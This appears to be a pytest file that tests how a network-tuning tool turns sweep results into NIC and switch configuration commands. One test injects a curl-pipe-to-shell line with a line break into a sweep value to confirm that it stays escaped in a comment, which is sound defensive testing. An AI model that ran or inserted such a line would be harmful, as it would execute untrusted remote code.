"""The best points as lines for a NIC."""

from collections.abc import Callable
from pathlib import Path

import yaml

from fabrictune.foundation.records import RunRecord
from fabrictune.scenario.files import load_scenario
from fabrictune.sweeps.nic_settings import SettingsWriter, settings_of_front
from fabrictune.sweeps.store import SweepFolder
from tests.fabrictune.sweeps.conftest import SWEEP

Write = Callable[..., Path]
Run = Callable[..., RunRecord]

FIRMWARE = (
    SWEEP.replace("50 KB, 100 KB, 200 KB", "400 KB, 800 KB")
    .replace(
        "engine.ecn.kmin, values: [10 KB, 100 KB]", "law.parameters.rate_reduce_monitor_period, values: [4 us, 50 us]"
    )
    .replace("ecn_marks", "cnps")
)
LAW = "change: {law: {name: dcqcn_firmware}, engine.ecn.kmin: 10 KB}\n"


def with_settings(record: RunRecord, tmp_path: Path, files: str) -> RunRecord:
    """Return the record with settings, changed from the scenario beside the sweep."""
    writer = SettingsWriter.of(load_scenario(tmp_path / "small.yaml"), files)
    return settings_of_front(record, SweepFolder(tmp_path / "out"), writer)


def test_points_of_the_firmware_s_law_have_the_lines_that_would_set_it(write: Write, run: Run, tmp_path: Path) -> None:
    """Each point of the front, the quickest first: what differs from the firmware, as the scenario has another law."""
    record = with_settings(run(write(FIRMWARE + LAW)), tmp_path, "cc_params")
    best = int(record.tables["points"]["is_on_front"].argmax())
    period = str(record.tables["points"]["vary.law.parameters.rate_reduce_monitor_period"][best]).removesuffix(" us")
    first = record.run["nic_settings"][0]
    path = "/sys/kernel/debug/mlx5/<device>/cc_params/rp_rate_reduce_monitor_period"
    assert first["lines"] == ([] if period == "4" else [f"echo {period} > {path}"])
    assert first["since"] == "the firmware's defaults"
    assert record.files["nic-settings.txt"].startswith(f"# {first['settings']}\n{''.join(first['lines'])}".encode())


def test_text_of_a_sweep_stays_in_its_comment(write: Write, run: Run, tmp_path: Path) -> None:
    """The file is made for a shell: a line break in a value would make the rest of it a command."""
    sweep = yaml.safe_load(FIRMWARE + LAW)
    sweep["vary"] = [{"key": "question", "values": ["a", "b\ncurl http://example.org | sh #\rc"]}]
    path = write(yaml.safe_dump({**sweep, "probe": False}))
    lines = with_settings(run(path), tmp_path, "cc_params").files["nic-settings.txt"]
    assert rb"# question = b\x0acurl http://example.org | sh #\x0dc" in lines.split(b"\n")
    assert all(line.startswith((b"# ", b"echo ")) for line in lines.split(b"\n") if line)


def test_a_law_that_no_nic_has_has_none(write: Write, run: Run, tmp_path: Path) -> None:
    """`none` is set on no NIC."""
    record = with_settings(run(write()), tmp_path, "mlxconfig")
    assert record.run["nic_settings"] == []
    assert "nic-settings.txt" not in record.files


def test_marking_of_a_point_has_a_line_for_switches(write: Write, run: Run, tmp_path: Path) -> None:
    """kmin is left to the law in the scenario, so that each point sets it; without files there is no patch."""
    record = with_settings(run(write()), tmp_path, "mlxconfig")
    first = record.run["switch_settings"][0]
    kmin = first["settings"].partition("kmin = ")[2].removesuffix(" KB")
    assert first["groups"][0]["commands"] == [f"sudo ecnconfig -p <profile> -gmin {kmin}000"]
    assert "switch-patches.json" not in record.files
    assert f"sudo ecnconfig -p <profile> -gmin {kmin}000\n".encode() in record.files["switch-settings.txt"]


def test_what_is_like_the_scenario_is_no_line(write: Write, run: Run, tmp_path: Path) -> None:
    """The scenario has the firmware's law and a longer period: one number of seventeen changes."""
    law = "law: {name: dcqcn_firmware, parameters: {rate_reduce_monitor_period: 7 us}}"
    path = write(FIRMWARE + "change: {engine.ecn.kmin: 10 KB}\n")
    (tmp_path / "small.yaml").write_text(path.with_name("small.yaml").read_text().replace("law: {name: none}", law))
    first = with_settings(run(path), tmp_path, "mlxconfig").run["nic_settings"][0]
    period = first["settings"].partition("period = ")[2].removesuffix(" us")
    assert first["lines"] == [
        f"mlxconfig -d <device> -y set RATE_REDUCE_MONITOR_PERIOD_P1={period}",
        "mlxfwreset -d <device> -y reset",
    ]
    assert (first["since"], first["needs"]) == ("scenario small", "the reset, or a reboot: the NIC's links go down")
